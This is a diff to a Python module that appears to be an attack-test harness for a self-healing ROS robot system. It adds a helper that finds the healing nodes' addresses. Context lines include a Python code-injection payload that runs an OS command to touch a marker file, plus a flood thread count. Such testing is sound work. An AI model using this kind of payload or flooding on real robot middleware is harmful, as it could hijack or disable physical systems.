@@ -1,18 +1,20 @@
 """The robot as anybody on its computer sees it, and what many attacks share."""
 import http.client
 import io
+import re
 import socket
 import struct
 import threading
 import time
 import xmlrpc.client
 from contextlib import suppress
-from typing import Any, Callable, Dict, Tuple
+from typing import Any, Callable, Dict, Set, Tuple
 
 import rosgraph
 
 HEALERS = "/monitor", "/reconfigurator"
 GATE = "/gated_gate"
+PART = re.compile("/(monitor|reconfigurator|view|gated_gate|substitute_.*)$")
 FLOOD_THREADS = 8
 LENGTH = struct.Struct("<I")
 ERRORS = (OSError, xmlrpc.client.Error, http.client.HTTPException, rosgraph.MasterException)
@@ -27,6 +29,16 @@ class Target:
         self.master = rosgraph.Master("/stranger")
         self.uris = {each: str(self.master.lookupNode(each)) for each in HEALERS}
         self.code = f"__import__('os').system('touch {folder}/ran')"
+
+    def healing(self) -> Set[str]:
+        """Return where the nodes of healing listen."""
+        publishers, _, _ = self.master.getSystemState()
+        nodes = {node for _, those in publishers for node in those if PART.match(node)}
+        found = set()
+        for node in nodes:
+            with suppress(*ERRORS):  # it has ended
+                found.add(str(self.master.lookupNode(node)))
+        return found
 
     def address(self, node: str) -> Tuple[str, int]:
         """Return where a healer's API listens."""
